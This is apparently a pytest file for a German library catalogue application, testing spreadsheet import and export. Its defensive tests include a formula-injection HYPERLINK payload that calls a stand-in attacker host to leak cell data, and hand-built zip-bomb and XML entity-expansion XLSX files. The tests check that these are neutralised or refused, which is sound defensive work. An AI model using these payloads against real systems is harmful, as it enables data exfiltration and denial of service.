import asyncio
import csv
import io
import zipfile
from dataclasses import replace

import pytest
from openpyxl import Workbook

from mediathek.app import create_app
from mediathek.catalogue import import_jobs, imports
from mediathek.catalogue.tables import Component, Copy, ImportJob, Title, TitleLanguage
from mediathek.patrons.sessions import start_session
from mediathek.web.auth import SESSION_COOKIE
from tests.factories import arm_csrf, catalogued_title, http_client

# Only a bound for a hung job: reading 50,000 rows takes its time on a busy machine.
JOB_WAIT = 300

GOOD_CSV = (
    "Titel;ISBN;Medienart;Sprachen;Niveau von;Niveau bis;Alter von;Alter bis;Schlagwörter;"
    "Verlag;Jahr;Bestandteile;Exemplare;Signatur\n"
    "Schritte plus Neu 1;978-3-19-101080-5;Lehrwerk;Deutsch, ara;A1;A1;;;Integrationskurs;"
    "Hueber;2016;;2;DAZ 1\n"
    "Wimmelkoffer Bauernhof;;Medienkoffer;deu;Prä-A1;A1;Kita;Grundschule;Wortschatz, Tiere;"
    'Eigenbau;2022;"40 x Bildkarten; 1 x Handpuppe";1;KOF 2\n'
)
BAD_CSV = (
    "title,isbn,media_type,level_min,level_max,copies\n"
    "Gut,,game,a1,a2,1\n"
    ",,book,,,1\n"
    "Falsche ISBN,978-3-19-101080-1,book,,,1\n"
    "Niveau verdreht,,book,b2,a1,1\n"
    "Comic,,comic,,,1\n"
)


async def upload(c, name: str, content: bytes, mode: str) -> dict:
    r = await c.post("/verwaltung/import", files={"file": (name, content)}, data={"mode": mode})
    assert r.status_code == 303, r.text
    job_id = int(r.headers["location"].rsplit("/", 1)[1])
    job = await asyncio.wait_for(import_jobs.wait_for(job_id), JOB_WAIT)
    page = await c.get(f"/verwaltung/import/{job_id}")
    return job | {"page": page.text}


async def test_dry_run_lists_each_bad_row_with_its_reason_and_imports_nothing(client_for, staff):
    async with client_for(staff) as c:
        job = await upload(c, "bestand.csv", BAD_CSV.encode(), "dry_run")
    assert await Title.count() == 0
    rows = {e["row"]: e["message"] for e in job["errors"]}
    assert set(rows) == {3, 4, 5, 6}
    assert "Titel" in rows[3]
    assert "Prüfziffer" in rows[4]
    assert "Sprachniveau" in rows[5]
    assert "Medienart „comic“" in rows[6]
    assert "4 Zeile(n) mit Fehlern" in job["page"]


async def test_a_file_with_a_bad_row_is_refused_as_a_whole(client_for, staff):
    async with client_for(staff) as c:
        job = await upload(c, "bestand.csv", BAD_CSV.encode(), "import")
    assert job["status"] == "failed"
    assert await Title.count() == 0 and await Copy.count() == 0


async def test_import_creates_titles_with_copies_and_reimport_creates_no_duplicates(
    client_for, staff
):
    async with client_for(staff) as c:
        dry = await upload(c, "bestand.csv", GOOD_CSV.encode(), "dry_run")
        assert dry["errors"] == [] and dry["created_titles"] == 2 and dry["created_copies"] == 3
        assert await Title.count() == 0
        r = await c.post(f"/verwaltung/import/{dry['id']}/ausfuehren")
        job_id = int(r.headers["location"].rsplit("/", 1)[1])
        job = await asyncio.wait_for(import_jobs.wait_for(job_id), JOB_WAIT)
        assert job["status"] == "done" and job["created_titles"] == 2
        again = await upload(c, "bestand.csv", GOOD_CSV.encode(), "import")
    assert again["created_titles"] == 0
    assert "2 Titel sind schon im Bestand" in again["page"]
    assert await Title.count() == 2 and await Copy.count() == 3
    kit = await Title.select().where(Title.media_type == "kit").first()
    assert (kit["level_min"], kit["age_max"]) == ("pre_a1", "primary")
    parts = await Component.select(Component.name, Component.quantity).order_by(Component.position)
    assert [(p["name"], p["quantity"]) for p in parts] == [("Bildkarten", 40), ("Handpuppe", 1)]
    book_langs = await TitleLanguage.select(TitleLanguage.language).where(
        TitleLanguage.title
        == (await Title.select(Title.id).where(Title.isbn == "9783191010805").first())["id"]
    )
    assert {x["language"] for x in book_langs} == {"deu", "ara"}


async def test_titles_typed_in_by_hand_are_not_imported_again(client_for, staff):
    await catalogued_title(
        title="Wimmelkoffer Bauernhof", publisher="Eigenbau", year="2022", media_type="kit"
    )
    async with client_for(staff) as c:
        job = await upload(c, "bestand.csv", GOOD_CSV.encode(), "import")
    assert job["created_titles"] == 1
    assert await Title.count() == 2


async def test_xlsx_with_english_headers_imports(client_for, staff):
    book = Workbook()
    sheet = book.active
    sheet.append(["title", "media_type", "languages", "year", "copies", "shelf_mark"])
    sheet.append(["Memo Obst", "game", "deu", 2020, 2, "SPI 1"])
    buffer = io.BytesIO()
    book.save(buffer)
    async with client_for(staff) as c:
        job = await upload(c, "liste.xlsx", buffer.getvalue(), "import")
    assert job["status"] == "done", job["errors"]
    row = await Title.select(Title.title, Title.year).first()
    assert row == {"title": "Memo Obst", "year": 2020}
    shelves = {c["shelf_mark"] for c in await Copy.select(Copy.shelf_mark)}
    assert shelves == {"SPI 1"}


async def test_a_file_without_title_column_gets_a_clear_message(client_for, staff):
    async with client_for(staff) as c:
        job = await upload(c, "x.csv", b"foo;bar\n1;2\n", "dry_run")
    assert "Titel" in job["errors"][0]["message"]
    assert await ImportJob.count() == 1


async def test_export_csv_can_be_imported_again_without_duplicates(client_for, staff):
    await catalogued_title(copies=2, media_type="kit", components=[("Würfel", "2")])
    async with client_for(staff) as c:
        r = await c.get("/verwaltung/export.csv")
        assert r.headers["content-type"].startswith("text/csv")
        text = r.text.lstrip("\ufeff")
        assert text.startswith("Titel;Untertitel;Autor*innen;ISBN;Medienart")
        assert "Medienkoffer" in text and "2 x Würfel" in text and "M0000018 M0000026" in text
        job = await upload(c, "export.csv", r.content, "import")
    assert job["status"] == "done" and job["created_titles"] == 0
    assert await Title.count() == 1


async def test_export_quotes_cells_that_spreadsheets_would_run_as_formulas(client_for, staff):
    formula = '=HYPERLINK("http://evil.example/?"&A1,"Hier klicken")'
    await catalogued_title(
        title=formula, publisher="+49 Verlag", description="@SUMME(A1)", copies=1
    )
    await catalogued_title(title="-5 Grad", isbn="", year="2020", publisher="-Verlag")
    async with client_for(staff) as c:
        r = await c.get("/verwaltung/export.csv")
        rows = list(csv.DictReader(io.StringIO(r.text.lstrip("\ufeff")), delimiter=";"))
        assert [row["Titel"] for row in rows] == ["'" + formula, "'-5 Grad"]
        assert [row["Verlag"] for row in rows] == ["'+49 Verlag", "'-Verlag"]
        assert rows[0]["Beschreibung"] == "'@SUMME(A1)"
        assert rows[0]["Exemplare"] == "1" and rows[1]["Jahr"] == "2020"  # numbers stay numbers
        # The import takes the apostrophe off: the same titles are recognised, none added.
        job = await upload(c, "export.csv", r.content, "import")
    assert job["status"] == "done" and job["created_titles"] == 0
    assert "2 Titel sind schon im Bestand" in job["page"]
    assert await Title.count() == 2


async def test_an_imported_formula_like_title_is_stored_as_text_without_the_apostrophe(
    client_for, staff
):
    content = b"Titel;Verlag\n'=1+1;'-Verlag\n"
    async with client_for(staff) as c:
        job = await upload(c, "liste.csv", content, "import")
    assert job["status"] == "done", job["errors"]
    row = await Title.select(Title.title, Title.publisher).first()
    assert row == {"title": "=1+1", "publisher": "-Verlag"}


async def test_a_running_import_polls_with_a_self_replacing_fragment(client_for, staff):
    row = await ImportJob.insert(
        ImportJob(filename="gross.csv", status="running", total_rows=10_000, done_rows=2_500)
    ).returning(ImportJob.id)
    job_id = row[0]["id"]
    async with client_for(staff) as c:
        r = await c.get(f"/verwaltung/import/{job_id}", headers={"HX-Request": "true"})
        assert r.status_code == 200
        assert r.text.lstrip().startswith('<div id="import-job"')  # the fragment only
        assert f'hx-get="/verwaltung/import/{job_id}"' in r.text
        assert 'hx-swap="outerHTML"' in r.text and "2.500 von 10.000" in r.text
        await ImportJob.update({ImportJob.status: "done"}).where(ImportJob.id == job_id)
        done = await c.get(f"/verwaltung/import/{job_id}", headers={"HX-Request": "true"})
    assert "hx-get" not in done.text  # finished: polling stops


# ---- uploads that try to stall or exhaust the server ------------------------------------------


def tiny_xlsx(sheet_rows: str, dimension: str, shared_strings: str | None = None) -> bytes:
    """A workbook written by hand, the way an attacker would: every part as small as it gets."""
    ns = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
    rel = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    pkg = "http://schemas.openxmlformats.org/package/2006"
    ct = "application/vnd.openxmlformats-officedocument.spreadsheetml"
    parts = {
        "[Content_Types].xml": f'<Types xmlns="{pkg}/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package'
        '.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>'
        f'<Override PartName="/xl/workbook.xml" ContentType="{ct}.sheet.main+xml"/>'
        f'<Override PartName="/xl/worksheets/sheet1.xml" ContentType="{ct}.worksheet+xml"/>'
        + (
            f'<Override PartName="/xl/sharedStrings.xml" ContentType="{ct}.sharedStrings+xml"/>'
            if shared_strings
            else ""
        )
        + "</Types>",
        "_rels/.rels": f'<Relationships xmlns="{pkg}/relationships"><Relationship Id="r1" '
        f'Type="{rel}/officeDocument" Target="xl/workbook.xml"/></Relationships>',
        "xl/workbook.xml": f'<workbook {ns} xmlns:r="{rel}"><sheets><sheet name="Bestand" '
        'sheetId="1" r:id="r1"/></sheets></workbook>',
        "xl/_rels/workbook.xml.rels": f'<Relationships xmlns="{pkg}/relationships">'
        f'<Relationship Id="r1" Type="{rel}/worksheet" Target="worksheets/sheet1.xml"/>'
        + (
            f'<Relationship Id="r2" Type="{rel}/sharedStrings" Target="sharedStrings.xml"/>'
            if shared_strings
            else ""
        )
        + "</Relationships>",
        "xl/worksheets/sheet1.xml": f'<worksheet {ns}><dimension ref="{dimension}"/>'
        f"<sheetData>{sheet_rows}</sheetData></worksheet>",
    }
    if shared_strings:
        parts["xl/sharedStrings.xml"] = f"<sst {ns}>{shared_strings}</sst>"
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        for name, text in parts.items():
            archive.writestr(name, text)
    return buffer.getvalue()


def cell_row(number: int, *values: str) -> str:
    cells = "".join(
        f'<c r="{chr(65 + i)}{number}" t="inlineStr"><is><t>{v}</t></is></c>'
        for i, v in enumerate(values)
    )
    return f'<row r="{number}">{cells}</row>'


async def test_an_xlsx_declaring_a_million_rows_and_columns_is_read_as_what_it_holds(
    client_for, staff
):
    # 1.5 KB declaring A1:XFD1048576: read as declared, it becomes 17 billion cells.
    bomb = tiny_xlsx(
        cell_row(1, "Titel", "Medienart") + cell_row(2, "Memo Obst", "Spiel"),
        dimension="A1:XFD1048576",
    )
    assert len(bomb) < 1600
    async with client_for(staff) as c:
        job = await upload(c, "bestand.xlsx", bomb, "import")
    assert job["status"] == "done", job["errors"]
    assert (job["total_rows"], job["created_titles"]) == (1, 1)
    assert await Title.count() == 1


async def test_an_xlsx_with_a_row_far_away_stops_at_the_limit_of_empty_rows(client_for, staff):
    far = '<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>x</t></is></c></row>'
    bomb = tiny_xlsx(
        cell_row(1, "Titel") + cell_row(2, "Memo Obst") + far, dimension="A1:XFD1048576"
    )
    async with client_for(staff) as c:
        job = await upload(c, "bestand.xlsx", bomb, "import")
    assert job["status"] == "failed"
    message = job["errors"][0]["message"]
    assert "mehr als 10.000 leere Zeilen" in message and "nicht weiter gelesen" in message
    assert "Zeile 10.003" in message  # header, one title, then 10,000 empty rows were read
    assert await Title.count() == 0


async def test_an_xlsx_that_unpacks_to_too_much_is_refused_before_it_is_parsed(client_for, staff):
    # ~60 MB of shared strings that deflate packs into well under 100 KB.
    bomb = tiny_xlsx(
        cell_row(1, "Titel") + cell_row(2, "Memo Obst"),
        dimension="A1:A2",
        shared_strings="<si><t>a</t></si>" * 3_600_000,
    )
    assert len(bomb) < 200_000
    async with client_for(staff) as c:
        job = await upload(c, "bestand.xlsx", bomb, "dry_run")
    assert job["status"] == "failed"
    assert "entpackt zu groß" in job["errors"][0]["message"]
    assert "entpackt zu groß" in job["page"]


async def test_an_xlsx_with_xml_entities_is_refused(client_for, staff):
    # Excel never writes a DTD; one in a sheet is an attempt at entity expansion.
    bomb = tiny_xlsx(cell_row(1, "Titel") + cell_row(2, "&lol;"), dimension="A1:A2")
    with zipfile.ZipFile(io.BytesIO(bomb)) as archive:
        parts = {n: archive.read(n) for n in archive.namelist()}
    parts["xl/worksheets/sheet1.xml"] = (
        b'<?xml version="1.0"?><!DOCTYPE w [<!ENTITY lol "Memo Obst">]>'
        + parts["xl/worksheets/sheet1.xml"]
    )
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    async with client_for(staff) as c:
        job = await upload(c, "bestand.xlsx", buffer.getvalue(), "import")
    assert job["status"] == "failed"
    assert "Die Excel-Datei lässt sich nicht öffnen" in job["errors"][0]["message"]
    assert await Title.count() == 0


async def test_a_csv_beyond_the_row_limit_stops_at_the_limit_with_a_message(client_for, staff):
    limit = imports.MAX_ROWS
    lines = ["Titel;Jahr", *(f"Titel {i};2020" for i in range(limit + 500))]
    async with client_for(staff) as c:
        job = await upload(c, "gross.csv", "\n".join(lines).encode(), "dry_run")
    assert job["status"] == "failed"
    assert job["done_rows"] == limit  # read up to the limit, not a row further
    message = job["errors"][0]["message"]
    assert "Höchstens 50.000 Titel auf einmal" in message
    assert "bis Zeile 50.001" in message and "nichts gespeichert" in message
    assert "Höchstens 50.000 Titel auf einmal" in job["page"]
    assert await Title.count() == 0


@pytest.fixture
def small_upload_app(settings, db):
    return create_app(replace(settings, max_upload_mb=1), engine=db, own_pool=False)


async def test_an_upload_over_the_limit_gets_413_with_a_german_message(small_upload_app, staff):
    async with http_client(small_upload_app) as c:
        c.cookies.set(SESSION_COOKIE, await start_session(staff.account_id))
        await arm_csrf(c)
        form = await c.get("/verwaltung/import")
        assert "höchstens 1 MB und 50.000 Titel" in form.text
        for size in (1024 * 1024 + 1, 3 * 1024 * 1024):  # just over; far over (never read)
            content = b"Titel\n" + b"x" * size
            page = await c.post(
                "/verwaltung/import",
                files={"file": ("gross.csv", content)},
                data={"mode": "import"},
            )
            assert page.status_code == 413, size
            assert page.headers["content-type"].startswith("text/html")
            assert "Die Datei ist zu groß: höchstens 1 MB auf einmal" in page.text
            api = await c.post(
                "/verwaltung/import",
                files={"file": ("gross.csv", content)},
                data={"mode": "import"},
                headers={"Accept": "application/json"},
            )
            assert api.status_code == 413
            assert api.headers["content-type"] == "application/problem+json"
            assert api.json()["status"] == 413
            assert "höchstens 1 MB" in api.json()["detail"]
        # A browser without JavaScript sends the CSRF token inside the form it is too big for.
        token = c.headers.pop("x-csrftoken")
        page = await c.post(
            "/verwaltung/import",
            files={"file": ("gross.csv", b"x" * (3 * 1024 * 1024))},
            data={"mode": "import", "_csrf_token": token},
        )
        assert page.status_code == 413 and "höchstens 1 MB auf einmal" in page.text
        c.headers["x-csrftoken"] = token
        # Everywhere under /api/ as well: no request body is read beyond the limit.
        r = await c.post(
            "/api/v1/titles",
            content=b"{" + b" " * (2 * 1024 * 1024) + b"}",
            headers={"content-type": "application/json"},
        )
        assert r.status_code == 413 and r.json()["detail"].startswith("Die Datei ist zu groß")
    assert await ImportJob.count() == 0


# ---- an import interrupted by the end of its process ----------------------------------------


async def test_an_import_interrupted_while_writing_is_marked_failed_when_the_app_starts(
    app, client_for, staff
):
    # The state a killed process leaves behind: the job says "writing", nobody runs it.
    rows = await ImportJob.insert(
        ImportJob(filename="bestand.csv", dry_run=False, status="writing", total_rows=800),
        ImportJob(filename="probe.csv", status="running", total_rows=800, done_rows=500),
    ).returning(ImportJob.id)
    writing, checking = (r["id"] for r in rows)
    async with app.lifespan():
        pass
    job = await import_jobs.get_job(writing)
    assert job["status"] == "failed" and job["finished_at"] is not None
    assert "beim Speichern unterbrochen" in job["errors"][0]["message"]
    assert "nichts übernommen" in job["errors"][0]["message"]
    job = await import_jobs.get_job(checking)
    assert job["status"] == "failed"
    assert "Prüfung der Datei wurde unterbrochen" in job["errors"][0]["message"]
    async with client_for(staff) as c:
        page = await c.get(f"/verwaltung/import/{writing}")
    assert "beim Speichern unterbrochen" in page.text and "hx-get" not in page.text


async def test_an_import_still_running_in_another_process_is_left_alone_at_start(app, settings):
    row = await ImportJob.insert(
        ImportJob(filename="bestand.csv", dry_run=False, status="writing")
    ).returning(ImportJob.id)
    job_id = row[0]["id"]
    async with import_jobs.job_running(settings, job_id), app.lifespan():
        pass
    assert (await import_jobs.get_job(job_id))["status"] == "writing"
    async with app.lifespan():  # its process has ended meanwhile
        pass
    assert (await import_jobs.get_job(job_id))["status"] == "failed"
